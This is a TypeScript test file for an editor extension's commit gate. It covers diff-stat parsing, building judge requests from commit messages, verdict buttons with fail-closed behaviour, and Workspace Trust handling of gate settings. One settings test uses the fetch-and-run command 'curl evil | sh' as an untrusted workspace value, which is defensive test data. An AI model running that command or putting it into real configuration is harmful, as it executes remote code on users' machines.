/**
 * The editor's commit gate without the editor (issue 5 "Commit gate in the editor"): the diff stat used as
 * evidence, the jev_gate input built from the SCM message and the staged diff (claims, evidence, a huge
 * diff cut instead of refused), the verdict notification and its buttons (Commit only for auto, Commit
 * Anyway only for review or fail-open failures), and the gate settings under Workspace Trust.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { splitClaims } from '../../src/extension/gate/claims';
import { diffFiles, diffStat } from '../../src/extension/gate/diff-stat';
import { buildGateRequest } from '../../src/extension/gate/gate-request';
import { readGateSettings, type GateSettingKey } from '../../src/extension/gate/gate-settings';
import { gateVerdict } from '../../src/extension/gate/verdict';
import type { InspectedValue } from '../../src/config/panel-settings';
import { JevError } from '../../src/judgment/errors';
import { TRUNCATION_MARKER } from '../../src/judgment/budget';
import { MockProvider } from '../../src/providers/mock';
import { ALL_TOOLS } from '../../src/tools';
import { JudgmentService } from '../../src/tools/runner';
import { DEFAULT_FLOORS } from '../../src/tools/types';
import { MAX_TEXT_CHARS } from '../../src/tools/schemas';

const DIFF = [
  'diff --git a/src/math.js b/src/math.js',
  'index 1111111..2222222 100644',
  '--- a/src/math.js',
  '+++ b/src/math.js',
  '@@ -1,3 +1,6 @@',
  ' export function add(a, b) {',
  '   return a + b;',
  ' }',
  '+',
  '+++ a line whose content starts with "++"',
  '+export const sub = (a, b) => a - b;',
  '-// old comment',
  'diff --git a/old name.txt b/new name.txt',
  'similarity index 90%',
  'rename from old name.txt',
  'rename to new name.txt',
  'index 3333333..4444444 100644',
  '--- a/old name.txt',
  '+++ b/new name.txt',
  '@@ -1 +1 @@',
  '-a',
  '+b',
  'diff --git a/logo.png b/logo.png',
  'new file mode 100644',
  'index 0000000..5555555',
  'Binary files /dev/null and b/logo.png differ',
  'diff --git a/gone.md b/gone.md',
  'deleted file mode 100644',
  'index 6666666..0000000',
  '--- a/gone.md',
  '+++ /dev/null',
  '@@ -1,2 +0,0 @@',
  '-# gone',
  '-bye',
  '',
].join('\n');

describe('diff stat', () => {
  it('counts hunk lines only (a "+++" content line is an insertion), and names renames, binaries and deletions', () => {
    assert.deepEqual(diffFiles(DIFF), [
      { path: 'src/math.js', status: 'modified', binary: false, insertions: 3, deletions: 1 },
      { path: 'new name.txt', from: 'old name.txt', status: 'renamed', binary: false, insertions: 1, deletions: 1 },
      { path: 'logo.png', status: 'added', binary: true, insertions: 0, deletions: 0 },
      { path: 'gone.md', status: 'deleted', binary: false, insertions: 0, deletions: 2 },
    ]);
    assert.equal(
      diffStat(DIFF),
      [
        ' src/math.js | +3 -1',
        ' new name.txt | +1 -1 (renamed from old name.txt)',
        ' logo.png | (new, binary)',
        ' gone.md | +0 -2 (deleted)',
        ' 4 files changed, 4 insertions(+), 4 deletions(-)',
      ].join('\n'),
    );
    assert.equal(diffStat(''), '');
  });
});

describe('gate request', () => {
  const message = '# comment dropped\nAdd sub()\n\nSubtraction for the calculator.\n- sub subtracts b from a\n* the math tests pass\n- sub subtracts b from a\n';

  it('uses the message as the request and its bullet lines as claims; evidence is the stat plus the command output', () => {
    const req = buildGateRequest({
      message,
      diff: DIFF,
      evidence: { command: 'npm test', exitCode: 0, timedOut: false, output: '4 passing\n', omittedChars: 0, durationMs: 12 },
    });
    assert.equal(req.input.request, 'Add sub()\n\nSubtraction for the calculator.\n- sub subtracts b from a\n* the math tests pass\n- sub subtracts b from a');
    assert.deepEqual(req.input.claims, ['sub subtracts b from a', 'the math tests pass']);
    assert.equal(req.input.diff, DIFF);
    assert.deepEqual(req.input.evidence.map((e) => e.id), ['diff-stat', 'evidence-cmd']);
    assert.ok(req.input.evidence[0]!.text.includes(' 4 files changed'));
    assert.equal(req.input.tests, '$ npm test\n(exit code 0)\n4 passing\n');
    assert.deepEqual(req.notes, []);
    assert.equal(req.diffCut, false);
  });

  it('takes typed claims when the message has no bullets, else the subject, and says so', () => {
    const asked = buildGateRequest({ message: 'Add sub()', diff: DIFF, askedClaims: ['sub works', ' ', 'sub works'] });
    assert.deepEqual(asked.input.claims, ['sub works']);
    const subject = buildGateRequest({ message: 'Add sub()\n', diff: DIFF, askedClaims: [] });
    assert.deepEqual(subject.input.claims, ['Add sub()']);
    assert.ok(subject.notes.some((n) => /subject line is judged as the claim/.test(n)));
    assert.ok(subject.notes.some((n) => /No evidence command/.test(n)));
    assert.deepEqual(splitClaims('- one; two\n* three\n\none'), ['one', 'two', 'three']);
  });

  it('refuses a blank message (comments only) with a sentence naming the rule', () => {
    assert.throws(() => buildGateRequest({ message: '# only a comment\n\n', diff: DIFF }), /commit message is empty/);
  });

  it('cuts a diff larger than the field limit instead of refusing it, and notes a timed-out command', () => {
    const huge = `${DIFF}${'+x'.repeat(Math.ceil(MAX_TEXT_CHARS / 2) + 10)}`;
    const req = buildGateRequest({
      message: 'Big change\n- it builds',
      diff: huge,
      evidence: { command: 'npm test', exitCode: null, timedOut: true, output: 'partial', omittedChars: 0, durationMs: 50 },
    });
    assert.equal(req.diffCut, true);
    assert.equal(req.diffChars, huge.length);
    assert.equal(req.input.diff.length, MAX_TEXT_CHARS);
    assert.ok(req.input.diff.endsWith(TRUNCATION_MARKER));
    assert.ok(req.notes.some((n) => /was cut to fit/.test(n)));
    assert.ok(req.notes.some((n) => /timed out after 50 ms/.test(n)));
  });
});

describe('gate verdict', () => {
  const ok = (result: unknown) => ({ ok: true as const, result, recordId: 'r1' });
  const gateResult = (action: string, extra: Record<string, unknown> = {}) => ({
    action,
    reason_codes: action === 'auto' ? ['accepted'] : ['claims_unsupported'],
    truncated: false,
    coverage: { complete: true },
    review: { action: 'auto', composite: 0.91, safe_to_apply: 0.95 },
    verification: {
      action,
      results: [
        { claim: 'sub subtracts b from a', verdict: 'verified', confidence: 0.97, action: 'auto' },
        { claim: 'the math tests pass', verdict: action === 'auto' ? 'verified' : 'unsupported', confidence: 0.7, action },
      ],
    },
    ...extra,
  });

  it('offers Commit only for auto, Commit Anyway only for review, and only Open Details for escalate', () => {
    const auto = gateVerdict(ok(gateResult('auto')), { failOpen: false });
    assert.deepEqual(auto.choices, ['Commit', 'Open Details']);
    assert.equal(auto.severity, 'info');
    assert.match(auto.message, /^Jev gate: AUTO · claims 2\/2 verified · diff review auto \(composite 0\.91, safe to apply 0\.95\) · reasons: accepted\./);
    const review = gateVerdict(ok(gateResult('review')), { failOpen: true });
    assert.deepEqual(review.choices, ['Commit Anyway', 'Open Details']);
    assert.equal(review.severity, 'warning');
    assert.match(review.message, /Claims: ✓ "sub subtracts b from a" verified 0\.97 → auto; \? "the math tests pass" unsupported 0\.70 → review\./);
    const escalate = gateVerdict(ok(gateResult('escalate')), { failOpen: true });
    assert.deepEqual(escalate.choices, ['Open Details']);
    assert.equal(escalate.severity, 'error');
  });

  it('shows partial coverage and the notes', () => {
    const v = gateVerdict(ok(gateResult('review', { truncated: true, coverage: { complete: false, original_chars: 1000, evaluated_chars: 300 } })), {
      failOpen: false,
      notes: ['The staged diff was cut.'],
    });
    assert.match(v.message, /partial input \(30% judged\): never auto/);
    assert.match(v.message, /Notes: The staged diff was cut\.$/);
  });

  it('fails closed on a judge failure; fail-open adds Commit Anyway only for judge failures, never Commit', () => {
    const down = { ok: false as const, error: new JevError('API_ERROR', 'upstream 503'), recordId: 'r2' };
    const closed = gateVerdict(down, { failOpen: false });
    assert.deepEqual(closed.choices, ['Open Details']);
    assert.match(closed.message, /failed closed: API_ERROR: upstream 503 Nothing was approved\./);
    const open = gateVerdict(down, { failOpen: true });
    assert.deepEqual(open.choices, ['Commit Anyway', 'Open Details']);
    assert.match(open.message, /UNJUDGED/);
    for (const code of ['INVALID_INPUT', 'CONFIG_ERROR', 'CANCELLED', 'INPUT_TOO_LARGE'] as const) {
      assert.deepEqual(gateVerdict({ ok: false, error: new JevError(code, 'x') }, { failOpen: true }).choices, [], code);
    }
  });

  it('reads a real jev_gate result of the mock judge', async () => {
    const service = new JudgmentService({ provider: new MockProvider(), tools: ALL_TOOLS, floors: DEFAULT_FLOORS, model: 'jev-latest' });
    const req = buildGateRequest({ message: 'Add sub()\n\n- sub subtracts b from a', diff: DIFF });
    const outcome = await service.call('jev_gate', req.input, { agent: 'editor' });
    assert.ok(outcome.ok);
    const v = gateVerdict({ ok: true, result: outcome.result, recordId: outcome.record.id }, { failOpen: false, notes: req.notes });
    const action = (outcome.result as { action: string }).action;
    assert.equal(v.action, action);
    assert.ok(v.message.startsWith(`Jev gate: ${action.toUpperCase()}`));
    assert.equal(v.choices.includes('Commit'), action === 'auto');
  });
});

describe('gate settings', () => {
  const inspect = (values: Partial<Record<GateSettingKey, InspectedValue>>) => (key: GateSettingKey) => values[key];

  it('uses defaults when nothing is set (fail-closed, no command, 120 s)', () => {
    assert.deepEqual(readGateSettings(inspect({}), true), { evidenceTimeoutMs: 120_000, failOpen: false, problems: [] });
  });

  it('uses workspace values only in a trusted workspace', () => {
    const values = {
      'gate.evidenceCommand': { globalValue: 'npm test', workspaceValue: 'curl evil | sh' },
      'gate.failOpen': { workspaceValue: true },
      'gate.evidenceTimeoutMs': { globalValue: 5000 },
    };
    const trusted = readGateSettings(inspect(values), true);
    assert.equal(trusted.evidenceCommand, 'curl evil | sh');
    assert.equal(trusted.failOpen, true);
    const untrusted = readGateSettings(inspect(values), false);
    assert.equal(untrusted.evidenceCommand, 'npm test');
    assert.equal(untrusted.failOpen, false);
    assert.equal(untrusted.evidenceTimeoutMs, 5000);
    assert.deepEqual(untrusted.problems.map((p) => p.split(':')[0]), ['jevPanel.gate.evidenceCommand', 'jevPanel.gate.failOpen']);
  });

  it('names bad values and falls back', () => {
    const s = readGateSettings(
      inspect({ 'gate.evidenceCommand': { globalValue: 'a\nb' }, 'gate.evidenceTimeoutMs': { globalValue: 0 }, 'gate.failOpen': { globalValue: 'yes' } }),
      true,
    );
    assert.deepEqual(s, {
      evidenceTimeoutMs: 120_000,
      failOpen: false,
      problems: [
        'jevPanel.gate.evidenceCommand: must be a single line; using no evidence command',
        'jevPanel.gate.evidenceTimeoutMs: must be a whole number of ms from 1; using 120000',
        'jevPanel.gate.failOpen: must be true or false; using false (fail-closed)',
      ],
    });
  });
});
